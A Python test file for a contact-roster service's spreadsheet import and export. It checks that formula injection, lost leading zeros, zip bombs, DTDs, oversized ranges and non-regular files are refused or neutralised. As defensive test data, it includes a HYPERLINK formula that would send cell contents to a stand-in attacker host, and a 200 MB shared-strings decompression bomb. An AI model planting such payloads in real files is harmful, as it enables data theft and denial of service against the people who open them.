"""Hostile spreadsheets: formulas, lost leading zeros, bombs, odd files. Refused with a message; memory bounded."""
import csv
import io
import os
import resource
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from wzcommand.services import roster
from wzcommand.services.errors import ImportRejected, ValidationError
from wzcommand.services.roster_io import export_contacts, import_contacts
from wzcommand.storage.models import Contact, Unit

pytestmark = pytest.mark.sqlite_only
LINK = '=HYPERLINK("http://evil.example/?"&A2,"点此核对")'


def _legacy_value(db, unit, field, value):
    """A value stored before input was checked (or typed into the file by hand)."""
    roster.update_contact(db, unit, {"liaison": "甲"}, "甲")
    with db.write() as s:
        contact = s.scalars(select(Contact).join(Unit).where(Unit.name == unit)).one()
        setattr(contact, field, value)


def test_formula_like_names_are_refused_on_input(db):
    for value in ("=1+1", "+SUM(A1)", "-2+3", "@cmd", LINK):
        with pytest.raises(ValidationError) as err:
            roster.update_contact(db, "市公安局", {"liaison": value}, "甲")
        assert "公式" in err.value.fields["liaison"]


def test_csv_export_neutralises_formulas(db, tmp_path):
    _legacy_value(db, "市公安局", "title", LINK)
    out = tmp_path / "c.csv"
    export_contacts(db, out)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert "'" + LINK in cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_xlsx_export_writes_text_never_a_live_formula(db, tmp_path):
    _legacy_value(db, "市公安局", "title", LINK)
    out = tmp_path / "c.xlsx"
    export_contacts(db, out)
    with zipfile.ZipFile(out) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == LINK]
    assert cells and all(c.data_type == "s" for c in cells)


def _xlsx(tmp_path, rows, name="r.xlsx"):
    book = Workbook()
    for row in rows:
        book.active.append(row)
    path = tmp_path / name
    book.save(path)
    return path


def test_formula_cell_on_import_is_an_error_naming_the_cell(db, tmp_path):
    path = _xlsx(tmp_path, [["单位名称", "联络员", "职务"], ["市公安局", "张三", '=CONCAT("科","长")']])
    with pytest.raises(ImportRejected) as err:
        import_contacts(db, path, "甲")
    assert "C2" in str(err.value.errors[0]) and "公式" in str(err.value.errors[0])
    assert roster.get_unit(db, "市公安局").contact["title"] == ""


def test_leading_zero_lost_by_a_spreadsheet_names_cause_and_fix(db, tmp_path):
    path = _xlsx(tmp_path, [["单位名称", "办公电话"], ["市公安局", 57788123456]])
    with pytest.raises(ImportRejected) as err:
        import_contacts(db, path, "甲")
    text = str(err.value.errors[0])
    assert "开头的 0" in text and "057788123456" in text and "文本" in text


def _zip(path, parts):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def _minimal_parts(sheet_xml: bytes, strings: bytes | None = None) -> dict:
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                               b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                               b'<Default Extension="xml" ContentType="application/xml"/>'
                               b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                               b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                               b'</Types>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                       b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                           b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
                           b'<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                                      b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    if strings is not None:
        parts["xl/sharedStrings.xml"] = strings
    return parts


def _sheet(cells: str, dimension: str = "") -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + dim.encode() + b"<sheetData>" + cells.encode() + b"</sheetData></worksheet>")


def _peak_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_shared_strings_bomb_is_refused_before_unpacking(db, tmp_path):
    strings = (b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               + b"<si><t>" + b"A" * (200 * 1024 * 1024) + b"</t></si></sst>")
    path = _zip(tmp_path / "bomb.xlsx", _minimal_parts(_sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), strings))
    del strings
    assert path.stat().st_size < 1_000_000
    before = _peak_mb()
    with pytest.raises(ImportRejected) as err:
        import_contacts(db, path, "甲")
    assert "压缩" in str(err.value) or "解压后" in str(err.value)
    assert _peak_mb() - before < 100


def test_cell_at_column_xfd_is_refused(db, tmp_path):
    path = _zip(tmp_path / "far.xlsx", _minimal_parts(_sheet(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>单位名称</t></is></c></row>'
        + "".join(f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>x</t></is></c></row>' for n in range(2, 400)),
        dimension="A1:XFD400")))
    with pytest.raises(ImportRejected) as err:
        import_contacts(db, path, "甲")
    assert "范围过大" in str(err.value)


def test_far_cell_without_a_dimension_stays_bounded(db, tmp_path):
    path = _zip(tmp_path / "far.xlsx", _minimal_parts(_sheet(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>单位名称</t></is></c></row>'
        + "".join(f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>x</t></is></c></row>' for n in range(2, 3000)))))
    before = _peak_mb()
    assert import_contacts(db, path, "甲").updated == 0   # cells past the last column read are not read
    assert _peak_mb() - before < 100


def test_huge_cell_is_refused(db, tmp_path):
    path = _xlsx(tmp_path, [["单位名称", "联络员"], ["市公安局", "张" * 500_000]])
    with pytest.raises(ImportRejected) as err:
        import_contacts(db, path, "甲")
    assert "过长" in str(err.value)


def test_xlsx_with_a_dtd_is_a_clear_refusal(db, tmp_path):
    parts = _minimal_parts(_sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>单位名称</t></is></c></row>'))
    for name in ("xl/workbook.xml", "[Content_Types].xml"):
        parts[name] = parts[name].replace(b'<?xml version="1.0"?>', b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>')
    path = _zip(tmp_path / "dtd.xlsx", parts)
    with pytest.raises(ImportRejected) as err:
        import_contacts(db, path, "甲")
    assert "Excel" in str(err.value)


@pytest.mark.parametrize("kind", ["symlink-zero", "fifo"])
def test_only_regular_files_are_read(db, tmp_path, kind):
    path = tmp_path / "r.csv"
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    with pytest.raises(ImportRejected) as err:
        import_contacts(db, path, "甲")
    assert "不是普通文件" in str(err.value)
